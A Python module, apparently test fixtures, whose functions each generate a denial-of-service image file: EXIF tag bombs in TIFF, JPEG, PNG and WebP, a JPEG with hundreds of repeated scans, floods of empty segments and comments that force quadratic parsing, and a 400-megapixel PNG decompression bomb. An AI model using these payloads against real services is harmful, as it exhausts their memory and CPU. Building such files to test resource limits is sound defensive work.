"""Image files that are cheap to send and expensive to open. One function each."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image


def tiff_tags_over_one_block(tags: int = 1000, block: int = 4 << 20) -> bytes:
    """A TIFF whose tags point at one block, which is copied tags times."""
    offset = 8 + 2 + tags * 12 + 4
    entries = b"".join(struct.pack("<HHLL", 40000 + i, 7, block, offset) for i in range(tags))
    return struct.pack("<2sHLH", b"II", 42, 8, tags) + entries + bytes(4) + bytes(block)


def jpeg_with_exif_tag_bomb(tags: int = 4000) -> bytes:
    """A JPEG whose 60 KB of EXIF are copied once per tag."""
    exif = b"Exif\0\0" + tiff_tags_over_one_block(tags, 60_000 - 12 * tags)
    return _after_start(_encoded("JPEG"), b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif)


def png_with_exif_tag_bomb(tags: int = 1000, block: int = 2 << 20) -> bytes:
    """A PNG whose eXIf chunk is such a TIFF."""
    exif = tiff_tags_over_one_block(tags, block)
    chunk = struct.pack(">L", len(exif)) + b"eXIf" + exif
    chunk += struct.pack(">L", zlib.crc32(chunk[4:]))
    whole = _encoded("PNG")
    end_of_header = 8 + 25
    return whole[:end_of_header] + chunk + whole[end_of_header:]


def webp_with_exif_tag_bomb(tags: int = 1000, block: int = 2 << 20) -> bytes:
    """A WebP whose EXIF chunk is such a TIFF."""
    return _encoded("WEBP", exif=tiff_tags_over_one_block(tags, block))


def jpeg_of_many_scans(scans: int = 900, side: int = 1500) -> bytes:
    """A progressive JPEG that repeats its last scan: each is decoded over the whole image."""
    whole = _encoded("JPEG", side=side, progressive=True)
    last = whole.rindex(b"\xff\xda")
    return whole[:last] + whole[last:-2] * scans + whole[-2:]


def jpeg_of_empty_segments(count: int = 100_000) -> bytes:
    """A JPEG with comments of no length, each a step of a loop in Python."""
    return _after_start(_encoded("JPEG"), b"\xff\xfe\x00\x02" * count)


def png_of_empty_chunks(count: int = 200_000) -> bytes:
    """A PNG with chunks of no length before its pixels."""
    whole = _encoded("PNG")
    chunk = bytes(4) + b"teSt" + struct.pack(">L", zlib.crc32(b"teSt"))
    return whole[:33] + chunk * count + whole[33:]


def gif_of_comments(count: int = 40_000) -> bytes:
    """A GIF with a comment of ten megabytes in pieces, joined one by one: quadratic."""
    whole = _encoded("GIF")
    size = 13 + (3 << (whole[10] & 7) + 1)
    return whole[:size] + b"!\xfe" + (b"\xff" + b"x" * 255) * count + b"\0" + whole[size:]


def ppm_of_comments(count: int = 300_000) -> bytes:
    """A plain PPM with comments between its numbers: taking one out moves all that follow."""
    return b"P3 2 2 255\n" + b"#\n" * count + b"1 " * 12


def ppm_of_one_comment(size: int = 10_000_000) -> bytes:
    """A PPM whose header is one comment, read byte by byte."""
    return b"P6 #" + b"x" * size + b"\n2 2 255\n" + bytes(12)


def png_bomb(side: int = 20_000) -> bytes:
    """A PNG of 400 megapixels, all of one colour, in half a megabyte."""
    header = struct.pack(">LLBBBBB", side, side, 8, 2, 0, 0, 0)
    pixels = zlib.compressobj(9)
    row = bytes(1 + 3 * side)
    data = b"".join(pixels.compress(row) for _ in range(side // 100)) + pixels.flush()
    chunks = [(b"IHDR", header), (b"IDAT", data), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">L", len(body)) + name + body + struct.pack(">L", zlib.crc32(name + body))
        for name, body in chunks
    )


def webp_of_one_colour(side: int = 7000) -> bytes:
    """A WebP of 49 megapixels in a kilobyte: an honest size, and a second of decoding."""
    buffer = io.BytesIO()
    Image.new("RGB", (side, side)).save(buffer, "WEBP", lossless=True)
    return buffer.getvalue()


def _after_start(jpeg: bytes, more: bytes) -> bytes:
    return jpeg[:2] + more + jpeg[2:]


def _encoded(kind: str, side: int = 16, **options: object) -> bytes:
    buffer = io.BytesIO()
    Image.linear_gradient("L").resize((side, side)).convert("RGB").save(buffer, kind, **options)
    return buffer.getvalue()
